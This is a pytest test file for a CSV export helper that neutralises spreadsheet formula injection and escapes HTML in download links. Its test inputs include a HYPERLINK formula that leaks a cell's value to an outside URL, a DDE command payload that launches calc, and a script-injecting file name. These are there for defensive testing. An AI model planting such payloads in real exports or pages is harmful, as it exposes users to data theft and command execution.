"""Spreadsheet-safe CSV export: formulas are neutralised, everything else survives unchanged."""

from __future__ import annotations

import base64
import csv
import io

import numpy as np
import pandas as pd
import pytest

from helpers.data.export import FORMULA_STARTS, csv_data_uri, download_link_html, neutralise_cell, to_safe_csv


def _read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1",
        "\0=1",
        '=HYPERLINK("http://example.org/?leak="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "\uff1d1+1",
    ],
)
def test_cells_that_start_like_a_formula_get_an_apostrophe(cell):
    assert neutralise_cell(cell) == "'" + cell
    rows = _read_back(to_safe_csv(pd.DataFrame({"summary": [cell]})))
    assert rows[1] == ["'" + cell]


@pytest.mark.parametrize(
    "cell", ["Ryabkov acknowledges the 9M729", "", " =1+1 is not first", "2017-12-09", "a=b", "'quoted"]
)
def test_ordinary_cells_are_unchanged(cell):
    assert neutralise_cell(cell) == cell
    rows = _read_back(to_safe_csv(pd.DataFrame({"summary": [cell]})))
    assert rows[1] == [cell]


def test_every_listed_start_character_is_neutralised():
    frame = pd.DataFrame({"text": [start + "x" for start in FORMULA_STARTS]})
    rows = _read_back(to_safe_csv(frame))[1:]
    assert all(row[0].startswith("'") for row in rows)
    assert len(rows) == len(FORMULA_STARTS)


def test_numbers_dates_missing_values_and_categoricals():
    frame = pd.DataFrame(
        {
            "count": [-2, 3],
            "share": [-0.5, np.nan],
            "date": pd.to_datetime(["2017-12-09", None]),
            "category": pd.Categorical(["SVC session", None]),
            "text": ["-5", None],
        }
    )
    rows = _read_back(to_safe_csv(frame))
    assert rows[0] == ["count", "share", "date", "category", "text"]
    assert rows[1] == ["-2", "-0.5", "2017-12-09", "SVC session", "'-5"]
    assert rows[2] == ["3", "", "", "", ""]


def test_header_names_are_neutralised_too():
    rows = _read_back(to_safe_csv(pd.DataFrame({"=evil": ["x"]})))
    assert rows[0] == ["'=evil"]


def test_commas_quotes_and_line_breaks_round_trip():
    cell = 'He said "no", then left.\nSecond line'
    text = to_safe_csv(pd.DataFrame({"a": [cell], "b": ["plain"]}))
    assert _read_back(text)[1] == [cell, "plain"]
    quoted = cell.replace('"', '""')
    assert text == f'a,b\r\n"{quoted}",plain\r\n'


def test_the_real_events_table_exports_and_reads_back():
    import helpers

    events = helpers.load_events()
    text = to_safe_csv(events)
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(back.columns) == list(events.columns)
    assert back["event_id"].tolist() == events["event_id"].tolist()
    assert back.loc[0, "date_start"] == "1987-12-08"


def test_data_uri_holds_the_csv_with_a_byte_order_mark():
    uri = csv_data_uri("a,b\n1,ä\n")
    assert uri.startswith("data:text/csv;charset=utf-8;base64,")
    decoded = base64.b64decode(uri.split(",", 1)[1]).decode("utf-8")
    assert decoded == "\ufeffa,b\n1,ä\n"


def test_download_link_escapes_its_name_and_label():
    link = download_link_html("a\n", 'x"><script>.csv', label="<b>go</b>")
    assert "<script>" not in link and "<b>" not in link
    assert 'download="x&quot;&gt;&lt;script&gt;.csv"' in link
    assert link.startswith('<a href="data:text/csv;')
